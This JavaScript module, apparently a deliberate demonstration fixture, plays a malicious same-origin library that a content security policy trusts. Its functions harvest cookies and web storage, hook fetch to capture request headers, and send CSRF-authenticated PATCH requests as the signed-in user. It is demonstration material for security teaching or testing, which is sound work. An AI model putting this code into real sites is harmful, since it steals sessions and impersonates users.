/* WEAK on purpose: plays a library with malicious code. The content security policy allows it because this site serves
   it. From then on it can do everything that the page can do. */

/** Return all that scripts can read: {cookies, localStorage, sessionStorage}, each [[name, value], ...]. */
export function loot() {
  const cookies = document.cookie.split("; ").filter(Boolean).map((pair) => {
    const at = pair.indexOf("=");
    return [pair.slice(0, at), pair.slice(at + 1)];
  });
  return { cookies, localStorage: Object.entries(localStorage), sessionStorage: Object.entries(sessionStorage) };
}

/** Record the headers of the page's requests. Returns a function that stops recording and returns the headers. */
export function listen() {
  const { fetch } = window;
  const headers = [];
  window.fetch = (resource, options = {}) => {
    headers.push(...Object.entries(options.headers ?? {}));
    return fetch(resource, options);
  };
  return () => {
    window.fetch = fetch;
    return headers;
  };
}

/** Send a request as the signed-in user: the browser adds the cookies, and the script reads the CSRF token. */
export async function act(path, changes, headers) {
  const cookie = new RegExp(`(?:^|; )${document.documentElement.dataset.csrf}=([^;]*)`);
  const token = document.cookie.match(cookie)?.[1] ?? "";
  const response = await fetch(path, {
    method: "PATCH",
    headers: { "Content-Type": "application/json", "X-CSRFToken": token, ...headers },
    body: JSON.stringify(changes),
  });
  return { method: "PATCH", path, status: response.status, exchange: response.headers.get("Exchange-Id") };
}
